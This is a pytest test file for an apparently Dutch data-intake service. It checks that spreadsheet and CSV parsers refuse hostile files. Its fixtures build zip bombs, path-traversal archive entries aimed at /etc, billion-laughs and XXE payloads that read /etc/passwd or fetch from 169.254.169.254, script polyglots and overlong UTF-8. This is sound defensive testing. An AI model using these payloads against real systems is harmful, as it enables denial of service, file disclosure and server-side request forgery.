"""A file that is not what it seems, or that is made to eat the machine."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook
from tests.slices.aanlevering.parsers.bestanden import (
    ods_cell,
    ods_row,
    read,
    write_file,
    write_ods,
    write_xlsx,
)

from meldpunt.aanlevering.parsers import STANDAARD, BestandFout, Grenzen, read_begin
from meldpunt.aanlevering.parsers.grenzen import MB

Maker = Callable[[Path], Path]
KLEIN = dataclasses.replace(STANDAARD, geheugen=512 * MB, uitgepakt=20 * MB)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
NOISE = hashlib.shake_256(b"ruis").digest(MB)
KOP = b"klantnummer;achternaam;postcode;huisnummer;bedrag;achterstand_sinds\n"
BLAD = "xl/worksheets/sheet1.xml"
LACH = "<!DOCTYPE a [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>"


def text(content: bytes, naam: str = "levering.csv") -> Maker:
    return lambda folder: write_file(folder, content, naam=naam)


def packed(*parts: tuple[str, bytes]) -> Maker:
    def make(folder: Path) -> Path:
        with zipfile.ZipFile(folder / "levering.xlsx", "w", zipfile.ZIP_DEFLATED) as book:
            book.writestr("xl/workbook.xml", b"<workbook/>")
            for naam, content in parts:
                book.writestr(naam, content)
        return folder / "levering.xlsx"

    return make


def changed(make: Maker, change: Callable[[bytes], bytes]) -> Maker:
    def make_changed(folder: Path) -> Path:
        file = make(folder)
        file.write_bytes(change(file.read_bytes()))
        return file

    return make_changed


def zip_in_zip(folder: Path) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("leeg", b"\0" * MB)
    with zipfile.ZipFile(folder / "levering.xlsx", "w") as outer:
        outer.writestr("binnen.zip", inner.getvalue())
    return folder / "levering.xlsx"


def far_corners(folder: Path) -> Path:
    book = Workbook()
    book.active["A1"], book.active["XFD1048576"] = "klantnummer", "x"  # type: ignore[index]
    book.save(folder / "hoeken.xlsx")
    return folder / "hoeken.xlsx"


def overlapping(content: bytes) -> bytes:
    """Let the second part of the directory point at the data of the first, as the bomb of Fifield does."""
    first, second = content.find(b"PK\x01\x02"), content.rfind(b"PK\x01\x02")
    where = content[first + 42 : first + 46]
    return content[: second + 42] + where + content[second + 46 :]


BESTANDEN: dict[str, tuple[Maker, Grenzen, str]] = {
    "a workbook that unpacks a thousandfold": (packed((BLAD, b" " * 30 * MB)), KLEIN, "bestand_zipbom"),
    "a workbook whose directory lies about its size": (
        changed(
            packed((BLAD, b" " * 30 * MB)),
            lambda content: content.replace((30 * MB).to_bytes(4, "little"), (900).to_bytes(4, "little")),
        ),
        KLEIN,
        "bestand_zipbom",
    ),
    "a workbook of ten thousand parts": (
        packed(*((f"xl/{n}.xml", b"") for n in range(10_000))),
        KLEIN,
        "bestand_zipbom",
    ),
    "a workbook whose parts overlap": (
        changed(packed((BLAD, NOISE), ("xl/b.xml", NOISE)), overlapping),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a zip within a zip": (zip_in_zip, KLEIN, "bestand_soort_onbekend"),
    "a part that climbs out of the workbook": (
        packed(("../../etc/cron.d/x", b"x")),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a part with a path from the root": (packed(("/etc/passwd", b"x")), KLEIN, "bestand_onleesbaar"),
    "a part that climbs out with backslashes": (packed(("xl\\..\\..\\x", b"x")), KLEIN, "bestand_onleesbaar"),
    "a billion laughs in a sheet": (
        packed((BLAD, f'<?xml version="1.0"?>{LACH}<worksheet>&l9;</worksheet>'.encode())),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a billion laughs in the shared texts": (
        packed(("xl/sharedStrings.xml", f"{LACH}<sst><si><t>&l9;</t></si></sst>".encode())),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a billion laughs in an ods": (
        lambda folder: write_ods(folder, [ods_row(ods_cell("&l9;"))], doctype=LACH),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "an entity that reads a file of the machine": (
        packed((BLAD, b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>')),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "an entity that asks another server": (
        packed((BLAD, b'<!DOCTYPE a SYSTEM "http://169.254.169.254/latest/meta-data/"><worksheet/>')),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a parameter entity": (
        packed((BLAD, b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://x.example/e.dtd"> %x;]><worksheet/>')),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a doctype over the border of a block": (
        packed((BLAD, b" " * (MB - 4) + b"<!DOCTYPE a><worksheet/>" + bytes(range(1, 250)) * 9000)),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a doctype in UTF-16": (
        packed((BLAD, "\ufeff<!DOCTYPE a [<!ENTITY x 'y'>]><worksheet/>".encode("utf-16-le"))),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a doctype in big-endian UTF-16": (
        packed((BLAD, "\ufeff<!DOCTYPE a [<!ENTITY x 'y'>]><worksheet/>".encode("utf-16-be"))),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "two cells in far corners": (far_corners, KLEIN, "bestand_zipbom"),
    "a cell that repeats a million times": (
        lambda folder: write_ods(folder, [ods_row(ods_cell("x", herhaald=16_000), herhaald=1_000_000)]),
        KLEIN,
        "bestand_",
    ),
    "a binary workbook": (packed(("xl/workbook.bin", b"x")), KLEIN, "bestand_soort_onbekend"),
    "a workbook with a password": (
        text(OLE + "EncryptedPackage".encode("utf-16-le")),
        KLEIN,
        "bestand_versleuteld",
    ),
    "a workbook that breaks off": (
        changed(lambda folder: write_xlsx(folder, [["klantnummer"], ["1"]]), lambda content: content[:-40]),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "an old workbook full of noise": (text(OLE + b"\xff\x00\x13" * 4000), KLEIN, "bestand_onleesbaar"),
    "an old workbook whose sectors go round": (
        text(OLE + bytes(16) + b"\x3e\0\3\0\xfe\xff\x09\0\6\0" + bytes(10) + b"\1\0\0\0" * 120 + bytes(4096)),
        KLEIN,
        "bestand_",
    ),
    "a PDF with the name of a list": (text(b"%PDF-1.7\n" + KOP), KLEIN, "bestand_soort_onbekend"),
    "a picture that is a list as well": (text(b"GIF89a;" + KOP), KLEIN, "bestand_soort_onbekend"),
    "a photo that is a list as well": (text(b"\xff\xd8\xff\xe0" + KOP), KLEIN, "bestand_soort_onbekend"),
    "a web page with the name of a workbook": (
        text(b"\n <HTML><script>alert(1)</script><table>", "x.xls"),
        KLEIN,
        "bestand_soort_onbekend",
    ),
    "a drawing with a script": (text(b"<svg onload=alert(1)>" + KOP), KLEIN, "bestand_soort_onbekend"),
    "a script": (text(b"\xef\xbb\xbf<script>alert(1)</script>" + KOP), KLEIN, "bestand_soort_onbekend"),
    "a program": (text(b"\x7fELF\x02\x01\x01" + KOP), KLEIN, "bestand_soort_onbekend"),
    "a program for Windows": (text(b"MZ\x90\x00\x03" + KOP), KLEIN, "bestand_soort_onbekend"),
    "a gzip bomb": (text(b"\x1f\x8b\x08\0" + bytes(64)), KLEIN, "bestand_soort_onbekend"),
    "an xz bomb": (text(b"\xfd7zXZ\x00" + bytes(64)), KLEIN, "bestand_soort_onbekend"),
    "a bzip2 bomb": (text(b"BZh91AY" + bytes(64)), KLEIN, "bestand_soort_onbekend"),
    "a zstandard bomb": (text(b"\x28\xb5\x2f\xfd" + bytes(64)), KLEIN, "bestand_soort_onbekend"),
    "a NUL in a list": (text(KOP + b"K1;Jan\0sen;2011AA;1;9,50;2026-01-01\n"), KLEIN, "bestand_onleesbaar"),
    "a list in no known encoding": (text(KOP + b"K1;\x81\x8d\x8f\x90;2011AA\n"), KLEIN, "codering_onbekend"),
    "half a sign of UTF-16": (
        text(b"\xff\xfe" + KOP.decode().encode("utf-16-le")[:-1]),
        KLEIN,
        "bestand_onleesbaar",
    ),
    "a quote that never closes": (text(KOP + b'K1;"Jansen;2011AA\n' * 3), KLEIN, "aanhalingsteken_open"),
    "a cell of two hundred thousand signs": (
        text(KOP + b'K1;"' + b"x" * 200_000 + b'";2011AA\n'),
        KLEIN,
        "cel_te_lang",
    ),
    "a line of nine megabytes": (text(KOP + b"x;" * (9 * MB // 2)), KLEIN, "regel_te_lang"),
    "five thousand columns": (
        text(b";".join(b"k%d" % n for n in range(5000)) + b"\n"),
        KLEIN,
        "te_veel_kolommen",
    ),
    "more rows than a month has": (
        text(KOP + b"K1;a;2011AA;1;9,50;2026-01-01\n" * 50),
        dataclasses.replace(KLEIN, regels=20),
        "te_veel_regels",
    ),
    "a file beyond the limit": (text(KOP * 40_000), dataclasses.replace(KLEIN, bytes=MB), "bestand_te_groot"),
    "signalen on a second sheet that nobody reads": (
        lambda folder: two_sheets(folder),
        KLEIN,
        "meer_werkbladen",
    ),
}


def two_sheets(folder: Path) -> Path:
    book = Workbook()
    cells = KOP.decode().strip().split(";")
    for sheet in (book.worksheets[0], book.create_sheet("Tweede")):
        sheet.append(cells)
        sheet.append(["K1", "Jansen", "2011AA", "1", "9,50", "2026-01-01"])
    book.save(folder / "twee.xlsx")
    return folder / "twee.xlsx"


@pytest.mark.parametrize("naam", BESTANDEN)
def test_it_refuses_a_file(naam: str, tmp_path: Path) -> None:
    """`aanlevering/parsers`: what a file is shows from its content, and it is measured before it is read."""
    make, grenzen, code = BESTANDEN[naam]
    with pytest.raises(BestandFout) as refused:
        read(make(tmp_path), grenzen=grenzen, zoek_kop=True)
    assert refused.value.code.startswith(code)
    assert refused.value.zin.endswith(f"[{refused.value.code}]")


def test_it_refuses_a_slash_written_in_two_bytes_too_many(tmp_path: Path) -> None:
    """`parsers/codering.py`: overlong UTF-8 is no UTF-8, so it never becomes the sign it hides."""
    ruw = read(write_file(tmp_path, KOP + b"K\xc0\xaf..\xc0\xaf;Jansen;2011AA;1;9,50;2026-01-01\n"))
    assert "/" not in ruw.regels["klantnummer"][0]


def test_it_refuses_a_begin_that_is_as_bad_as_the_rest(tmp_path: Path) -> None:
    """`parsers/rekenblad.py`: the first look, for mapping columns, is guarded as the reading is."""
    file = BESTANDEN["a billion laughs in a sheet"][0](tmp_path)
    with pytest.raises(BestandFout):
        read_begin(file, naam="x.xlsx", velden=["klantnummer"], aantal=3)
